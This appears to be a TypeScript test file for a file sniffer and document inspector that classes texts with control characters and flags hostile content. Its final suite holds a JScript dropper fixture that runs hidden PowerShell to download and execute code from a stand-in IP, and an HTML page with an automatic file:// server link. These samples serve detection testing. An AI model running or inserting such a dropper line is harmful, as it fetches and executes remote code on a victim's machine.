/** Texts with control characters: those of terminals, printers and exports are texts, binary data is none. */

import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'
import { sniff } from './sniff.ts'
import { NOISE } from './text.ts'

const { outcome } = useInspector()

function typeOf(content: string): string | null {
  const bytes = Buffer.from(content, 'latin1')
  const { kind, type } = sniff(bytes.subarray(0, 4096), bytes)
  return kind === 'text' ? type : kind
}

const LINE = 'Dear all, please find the list below.\r\n'

suite('texts', () => {
  const texts: Record<string, string> = {
    'with a bell': `${LINE}\x07${LINE}`,
    'with window titles of a terminal': `$ ls -l and so on\n\x1b]0;user@host: ~\x07\x1b[01;32muser@host\x1b[0m:~$ ls\r\n${LINE}`,
    'with shifts of a terminal': `${LINE}\x0eqqqqqqqq\x0f\r\n`,
    'with commands of a printer': `${LINE}\x12\x0f${LINE}\x14${LINE}`,
    'with marks of another program': `(setf *prolog* "${'\x02'}verbatim:")\n(setf *epilog* "${'\x02'}latex: The end${'\x05'}${'\x05'}")\n`,
    'with a zero': `${LINE.repeat(7)}\0${LINE}`,
    'with zeros at the end': `${LINE}${'\0'.repeat(LINE.length)}`,
    'in Latin-1 with a bell': `${LINE.repeat(3)}Sch\xf6ne Gr\xfc\xdfe\x07\r\n`,
    'with separators': '8=FIX.4.2\x019=65\x0135=A\x0149=SERVER\x0156=CLIENT\x0134=177\x0152=20260101\x0110=062\x01',
    'with separated fields and records': `title of the first\x1fauthor of the first one\x1e${LINE}`,
  }
  for (const [name, text] of Object.entries(texts)) test(name, () => assert.equal(typeOf(text), 'text/plain'))
  test('mails and pages', () => {
    assert.equal(
      typeOf(`From: a@example.org\r\nTo: "\x06"@example.org\r\nSubject: hi\r\n\r\n${LINE}`),
      'message/rfc822',
    )
    assert.equal(typeOf(`<!DOCTYPE html><html><body>${LINE}\x07</body></html>`), 'text/html')
  })
})

suite('binary data', () => {
  const noise = createHash('shake256', { outputLength: 4_096 }).digest().toString('latin1')
  const data: Record<string, string> = {
    noise,
    'noise after a title': `Measurements of 2026\n${noise}`,
    'short noise': noise.slice(0, 200),
    'a text after a signature': `\x01\x02${LINE.repeat(9)}`,
    'a title before zeros': `Measurements of 2026\n${'\0'.repeat(4_000)}`,
    'names with their lengths': '\x05hello\x03the\x05world\x04this\x02is\x01a\x04list\x02of\x05names'.repeat(9),
    'names with zeros at their ends': 'hello\0the\0world\0this\0is\0a\0list\0of\0names\0'.repeat(9),
    'texts with small numbers': `${LINE}\x01\x02\x03\x04\x05\x06`.repeat(9),
  }
  for (const [name, text] of Object.entries(data)) test(name, () => assert.equal(typeOf(text), null))
})

suite('shares', () => {
  const mixed = (noise: string, share: number, other = '.'): string =>
    `${LINE.trim()}${other}`.padEnd(share * 20 - [...noise].length, '.') + noise
  const atMost = (noise: string, share: number, other?: string): void => {
    const text = mixed(noise, share, other)
    assert.equal(typeOf(text), 'text/plain')
    assert.equal(typeOf(text.replace('..', '.')), null)
  }
  const twenty = '\x07\x06'.repeat(10)
  test('of control characters', () => atMost(twenty, NOISE.share))
  test('of control characters in 8 bits', () => atMost(twenty, NOISE.share8Bit, '\xe4'))
  test('of one separator', () => atMost('\x01'.repeat(20), NOISE.separatorShare))
  test('of zeros', () => atMost(`${'\0'.repeat(10)}${'.'.repeat(10)}`, NOISE.zeroShare / 2))
})

suite('what is in a text with control characters is found', () => {
  const page = `<html><body>${LINE}\x07<img src="file://198.51.100.7/a/b.png"></body></html>`
  const dropper =
    'var s = new ActiveXObject("WScript.Shell");\r\n// \x07\x02 and so on, and so on\r\ns.Run("powershell -w hidden -c iex(iwr http://198.51.100.7/a)");\r\n'
  test('a page', () => assert.equal(outcome(Buffer.from(page, 'latin1')), 'Docvet.Link.FileServerAutomatic'))
  test('a script', () =>
    assert.match(outcome(writeZip([{ name: 'a.js', data: Buffer.from(dropper, 'latin1') }])) ?? '', /Docvet\.Script/))
})
